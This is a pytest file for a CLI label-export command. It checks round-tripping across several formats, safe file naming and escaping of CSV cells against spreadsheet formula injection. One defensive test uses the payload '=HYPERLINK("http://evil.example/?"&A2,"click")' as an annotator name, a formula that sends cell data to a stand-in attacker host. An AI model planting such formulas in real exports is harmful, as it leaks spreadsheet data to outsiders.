"""``shortlist export-labels`` (agent/exports.py) against a real agent: every format round-trips through
our own readers (labels CSV also through ``shortlist label``'s reader, the ImageFolder tree through
shortlist.datasets and torchvision), and bad requests leave nothing behind."""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from agent import client, exports
from agent.cli import read_labels_csv
from shortlist.cli import app
from shortlist.datasets import iter_images
from shortlist.images import decode_image
from shortlist.v1 import agent_pb2
from tests.agent.conftest import CLASSES, Running, make_images, make_samples

runner = CliRunner()


def cli(r: Running, *args: str) -> tuple[int, str]:
    res = runner.invoke(app, ["export-labels", "--agent", r.address, *args])
    return res.exit_code, res.output


def labelled_agent(r: Running) -> None:
    """12 PNG samples (s0..s5 labelled at ingest) and one raw-tensor sample; s6 labelled by bob then relabelled
    by alice from a prior, t0 labelled by carol; the sample id with a slash exercises file naming."""
    samples = make_samples(12, labels=6)
    samples.append(client.tensor_sample("dir/t0.raw", make_images(1, seed=5)[0]))
    assert client.ingest(r.stub, samples).accepted == 13
    client.submit_labels(r.stub, [("s6", "cat")], "bob")
    client.submit_labels(r.stub, [("s6", "cat"), ("s7", "dog")], "alice", source="prior:knn")
    client.submit_labels(r.stub, [("dir/t0.raw", "frog")], "carol")


def test_every_format_round_trips(running: Running, tmp_path: Path) -> None:
    labelled_agent(running)
    out = tmp_path / "export"
    code, text = cli(running, "--out", str(out), "--json")
    assert code == 0, text
    summary = json.loads(text)
    assert (summary["labels"], summary["images"], summary["priors"]) == (9, 9, 4)
    assert summary["files"] == ["fiftyone", "imagefolder", "labels.csv", "labels.jsonl", "priors.csv",
                                "priors.jsonl", exports.PRIORS_META]
    current = {r.id: r for r in client.list_labels(running.stub)}
    # labels.csv and labels.jsonl: every field of ListLabels, times to the microsecond
    for rows in (exports.read_csv_rows(out / "labels.csv"), exports.read_jsonl_rows(out / "labels.jsonl")):
        assert [r["id"] for r in rows] == list(current)
        for row in rows:
            rec = current[row["id"]]
            assert (row["label"], row["annotator"], row["source"], row["model_version"], row["audit"]) == \
                (rec.label, rec.annotator, rec.source, rec.model_version, rec.audit)
            assert row["time"] == pytest.approx(rec.time, abs=1e-5)
    assert (current["s6"].annotator, current["s6"].source) == ("alice", "prior:knn")
    # ... and labels.csv is what `shortlist label` reads
    assert [(i, lab) for _, i, lab in read_labels_csv(out / "labels.csv")] == [(i, r.label) for i, r in current.items()]
    # priors: one row per unlabelled sample, the agent's answer
    served = {p.id: p for p in running.stub.PriorLabels(agent_pb2.PriorLabelsRequest(method="knn"))}
    for rows in (exports.read_csv_rows(out / "priors.csv"), exports.read_jsonl_rows(out / "priors.jsonl")):
        assert {r["id"] for r in rows} == set(served) == {"s8", "s9", "s10", "s11"}
        for row in rows:
            p = served[row["id"]]
            assert (row["label"], row["method"], row["model_version"]) == (p.label, "knn", "v0001")
            assert row["confidence"] == pytest.approx(p.confidence, abs=1e-6)
    # priors.meta.json: the reply's calibration provenance (3 labels a class: few held out, so a warning,
    # which the summary's notes repeat)
    cal = next(iter(running.stub.PriorLabels(agent_pb2.PriorLabelsRequest(method="knn")))).calibration
    meta = exports.read_priors_meta(out)
    assert (meta["method"], meta["model_version"], meta["priors"]) == ("knn", "v0001", 4)
    assert meta["calibration"] == summary["calibration"] == client.calibration_dict(cal)
    assert meta["calibration"]["source"] in ("default", "labelled") and meta["calibration"]["held_out"] < 20
    assert meta["calibration"]["warning"].startswith("confidences calibrated on ")
    assert summary["notes"] == [f"priors: {meta['calibration']['warning']}"]
    probs = exports.read_jsonl_rows(out / "priors.jsonl")[0]["probs"]
    assert set(probs) == set(CLASSES) and sum(probs.values()) == pytest.approx(1.0, abs=1e-4)
    # the images: ImageFolder through shortlist's reader, FiftyOne through ours, payloads byte for byte
    payload = {s.id: s for s in client.list_samples(running.stub, labeled_only=True, include_payload=True)}
    tree = out / "imagefolder"
    names = exports.read_ids(tree)
    items = list(iter_images(tree))
    assert len(items) == 9
    for item in items:
        rel = item.id
        sid = names[rel]
        assert item.label == current[sid].label and item.encoded is not None
        if sid == "dir/t0.raw":  # a raw tensor comes out as PNG with the same pixels
            assert rel.endswith(".png") and (decode_image(item.encoded) == make_images(1, seed=5)[0]).all()
        else:
            assert item.encoded == payload[sid].encoded_image
    fo = out / "fiftyone"
    fo_ids = exports.read_ids(fo)
    fo_labels = exports.read_fiftyone_classification(fo)
    assert {fo_ids[f]: lab for f, lab in fo_labels.items()} == {i: r.label for i, r in current.items()}
    doc = json.loads((fo / "labels.json").read_text())
    assert doc["classes"] == CLASSES and all(isinstance(t, int) for t in doc["labels"].values())


def test_the_imagefolder_tree_is_what_torchvision_reads(running: Running, tmp_path: Path) -> None:
    datasets = pytest.importorskip("torchvision.datasets")
    labelled_agent(running)
    code, text = cli(running, "--out", str(tmp_path / "e"), "--format", "imagefolder")
    assert code == 0, text
    ds = datasets.ImageFolder(str(tmp_path / "e" / "imagefolder"))
    names = exports.read_ids(tmp_path / "e" / "imagefolder")
    current = {r.id: r.label for r in client.list_labels(running.stub)}
    assert len(ds) == 9 and ds.classes == sorted(set(current.values()))
    root = tmp_path / "e" / "imagefolder"
    got = {names[Path(p).relative_to(root).as_posix()]: ds.classes[c] for p, c in ds.samples}
    assert got == current
    img, _ = ds[0]
    assert np.asarray(img).shape == (12, 10, 3)
    assert not (tmp_path / "e" / "labels.csv").exists()


def test_history_lists_every_label(running: Running, tmp_path: Path) -> None:
    labelled_agent(running)
    code, text = cli(running, "--out", str(tmp_path / "h"), "--format", "jsonl", "--history", "--prior-method", "")
    assert code == 0, text
    rows = exports.read_jsonl_rows(tmp_path / "h" / "labels.jsonl")
    assert len(rows) == 10 and [r["annotator"] for r in rows if r["id"] == "s6"] == ["bob", "alice"]
    assert not (tmp_path / "h" / "priors.jsonl").exists() and not any(r["retracted"] for r in rows)
    # a retraction is a row of the history (empty label), and the sample leaves the current labels
    assert client.retract_labels(running.stub, ["s6"], annotator="carol").accepted == 1
    code, text = cli(running, "--out", str(tmp_path / "r"), "--format", "csv", "--history", "--prior-method", "")
    assert code == 0, text
    rows = exports.read_csv_rows(tmp_path / "r" / "labels.csv")
    assert [(r["label"], r["annotator"], r["retracted"]) for r in rows if r["id"] == "s6"] == [
        ("cat", "bob", False), ("cat", "alice", False), ("", "carol", True)]
    code, text = cli(running, "--out", str(tmp_path / "c"), "--format", "csv", "--prior-method", "")
    current = exports.read_csv_rows(tmp_path / "c" / "labels.csv")
    assert code == 0 and "s6" not in {r["id"] for r in current} and "retracted" not in current[0]


def test_bad_requests_change_nothing(running: Running, tmp_path: Path) -> None:
    client.ingest(running.stub, make_samples(6))
    # no labels yet: no priors, said so, the rest exported
    code, text = cli(running, "--out", str(tmp_path / "a"), "--format", "csv")
    assert code == 0 and "no priors exported" in " ".join(text.split()), text
    assert sorted(p.name for p in (tmp_path / "a").iterdir()) == ["labels.csv"]
    # a folder that is not empty is refused, untouched
    code, text = cli(running, "--out", str(tmp_path / "a"))
    assert code == 2 and "already exists" in text and "Traceback" not in text
    assert sorted(p.name for p in (tmp_path / "a").iterdir()) == ["labels.csv"]
    code, text = cli(running, "--out", str(tmp_path / "b"), "--format", "csv,xml")
    assert code == 2 and "xml" in text and not (tmp_path / "b").exists()
    client.submit_labels(running.stub, [("s0", "cat")], "x")
    code, text = cli(running, "--out", str(tmp_path / "c"), "--prior-method", "nope")
    assert code == 1 and "INVALID_ARGUMENT" in text and "nope" in text and not (tmp_path / "c").exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no partial folder left


def test_file_names_are_safe_and_unique() -> None:
    taken: set[str] = set()
    assert exports.file_stem("train/cat/0001.jpg", taken) == "train_cat_0001"
    second = exports.file_stem("train:cat:0001.jpg", taken)
    assert second.startswith("train_cat_0001-") and second != "train_cat_0001"
    assert exports.file_stem("../..", taken) == "sample"
    for bad in ("a/b", "..", ".hidden", ""):
        with pytest.raises(exports.ExportError):
            exports.check_class_folder(bad)


def test_csv_cells_are_never_spreadsheet_formulas_and_still_round_trip(running: Running, tmp_path: Path) -> None:
    """Ids and annotator names that start with = + - @ (a spreadsheet runs them as formulas: =HYPERLINK can
    send cells away) are written with a leading ' (OWASP), and one that starts with ' gets one too; our
    readers (read_csv_rows, read_ids, `label`'s and `retract-labels --if-current`'s) read the names back as
    given, so an export still drives `retract-labels --if-current`."""
    import csv

    ids = ["=2+5", "+x", "-y", "@z", "'q", "''r", "'=s", "ok"]
    who = '=HYPERLINK("http://evil.example/?"&A2,"click")'
    samples = make_samples(len(ids))
    for s, i in zip(samples, ids, strict=True):
        s.id = i
    assert client.ingest(running.stub, samples).accepted == len(ids)
    client.submit_labels(running.stub, [(i, "cat") for i in ids], who)
    out = tmp_path / "export"
    code, text = cli(running, "--out", str(out), "--format", "csv,imagefolder", "--prior-method", "")
    assert code == 0, text
    with open(out / "labels.csv", newline="", encoding="utf-8") as f:
        raw = list(csv.DictReader(f))
    with open(out / "imagefolder" / exports.IDS_FILE, newline="", encoding="utf-8") as f:
        raw_ids = [r["id"] for r in csv.DictReader(f)]
    for cell in [c for r in raw for c in r.values()] + raw_ids:
        assert not cell or cell[0] not in "=+-@\t\r", cell
    assert {r["id"] for r in raw} == {"'=2+5", "'+x", "'-y", "'@z", "''q", "'''r", "''=s", "ok"}
    assert {r["annotator"] for r in raw} == {"'" + who}
    rows = exports.read_csv_rows(out / "labels.csv")
    assert sorted(r["id"] for r in rows) == sorted(ids) and {r["annotator"] for r in rows} == {who}
    assert sorted(exports.read_ids(out / "imagefolder").values()) == sorted(ids)
    assert sorted(i for _, i, _ in read_labels_csv(out / "labels.csv")) == sorted(ids)
    for value in [*ids, "", "'", "-", "x'=", "\t=a"]:
        assert exports.csv_unescape(exports.csv_escape(value)) == value
    res = runner.invoke(app, ["retract-labels", "--file", str(out / "labels.csv"), "--if-current", "--annotator",
                              "lead", "--agent", running.address, "--json"])
    got = json.loads(res.stdout)
    assert res.exit_code == 0 and got["accepted"] == len(ids) and not got["rejected"], res.output
    assert not list(client.list_labels(running.stub))
